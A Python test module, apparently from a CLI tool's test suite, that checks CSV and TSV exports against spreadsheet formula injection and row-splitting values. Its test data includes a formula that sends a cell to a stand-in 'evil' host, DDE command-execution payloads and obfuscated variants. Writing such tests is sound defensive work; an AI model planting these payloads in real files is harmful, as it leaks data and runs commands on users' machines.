"""X: cells that a spreadsheet would run as formulas, and values that would split a row."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

from .cases import Case, Proof, want
from .command import run, unharmed
from .datasets import event, make, quoted
from .shared import Shared

_ACTIVE = (
    '=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", " =1+1",
    "\u200b=1+1", "\u00a0=1+1", "\n=1+1",
)  # fmt: skip
_STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
_QUOTED = ('a","b', 'a"b', "a,b;c\td", "a\nb\r\nc", "'quoted'", "a\\", "\ufeffa")


_CELLS = [*_ACTIVE, *_QUOTED]


def _record(number: int, cell: str) -> str:
    words = quoted(cell)
    return event(
        f"odd-{number}", title=words, topics=f"[{words}]", place=f"{{name: {words}}}", actors=f"[{words}]"
    )


_SHEET = Shared(lambda folder: make(folder, "".join(_record(*cell) for cell in enumerate(_CELLS))))


def cases() -> Iterator[Case]:
    """Each cell, in each column that takes free text."""
    for number, cell in enumerate(_ACTIVE):
        yield Case(f"X{number:02}", f"the cell {cell[:20]!r}", _active(f"odd-{number}", cell))
    for number, cell in enumerate(_QUOTED):
        yield Case(f"X2{number}", f"rows with {cell!r}", _rows(f"odd-{len(_ACTIVE) + number}"))
    yield Case("X29", "--raw for a format that is not csv", _raw)


def _row(key: str, *options: str) -> list[str]:
    """The row of an event, if all rows are present and have all columns."""
    result = _SHEET.piped("list", "--format", "csv", *options)
    unharmed(result, 0)
    rows = list(csv.reader(io.StringIO(result.out, newline="")))
    want(len(rows) == 2 + len(_CELLS), f"{len(rows)} rows")
    want(
        {len(row) for row in rows} == {9},
        f"the columns are not kept: {[row for row in rows if len(row) != 9]}",
    )
    return next(row for row in rows if row[0] == key)


def _active(key: str, cell: str) -> Proof:
    def prove(_: Path) -> None:
        for value in _row(key):
            first = value.lstrip("\u200b\ufeff\u00a0 ")[:1]
            want(not first or first not in _STARTS, f"a spreadsheet would run {value!r}")
        if cell[0] in "=+-@":
            want(cell in _row(key, "--raw"), "--raw does not give the cell as it is")

    return prove


def _rows(key: str) -> Proof:
    def prove(_: Path) -> None:
        for options in ((), ("--raw",)):
            want(_row(key, *options)[1:2] == ["2023"], "the columns are shifted")
        lines = _SHEET.piped("list", "--format", "tsv").out.splitlines()
        want([line.count("\t") for line in lines] == [8] * (2 + len(_CELLS)), f"tsv is not kept: {lines}")

    return prove


def _raw(folder: Path) -> None:
    result = run(make(folder), "list", "--json", "--raw")
    unharmed(result, 2)
    want("--raw" in result.err, result.err)
